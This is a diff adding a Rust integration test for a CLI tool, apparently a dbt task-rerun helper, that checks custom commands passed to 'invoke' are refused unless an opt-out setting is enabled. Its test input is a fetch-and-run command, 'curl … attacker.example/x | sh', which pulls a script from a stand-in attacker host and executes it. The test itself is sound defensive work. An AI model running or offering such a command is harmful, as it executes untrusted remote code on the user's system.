@@ -286,6 +286,29 @@ fn without_a_log_file_the_log_comes_from_cloudwatch() {
             "fct_orders+"
         ]
     );
+
+    // invoke goes through rerun-task's rules: dbt only, unless the stack opts out.
+    let custom = [
+        "invoke",
+        "--command",
+        r#"["sh", "-c", "curl -s http://attacker.example/x | sh"]"#,
+        "--cluster",
+        &moto.setup.cluster,
+        "--task-definition",
+        "dbt-models-building",
+        "--dry-run",
+    ];
+    let refused = dbt_rerun(&custom, &env);
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(!refused.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("command: `sh -c curl") && stderr.contains("AllowCustomCommands"),
+        "{stderr}"
+    );
+    let mut open = env.clone();
+    open.push(("DBT_RERUN_ALLOW_CUSTOM_COMMANDS", "true"));
+    let out = json(&dbt_rerun(&custom, &open));
+    assert_eq!(strings(&out["command"])[0], "sh");
 }
 
 #[test]
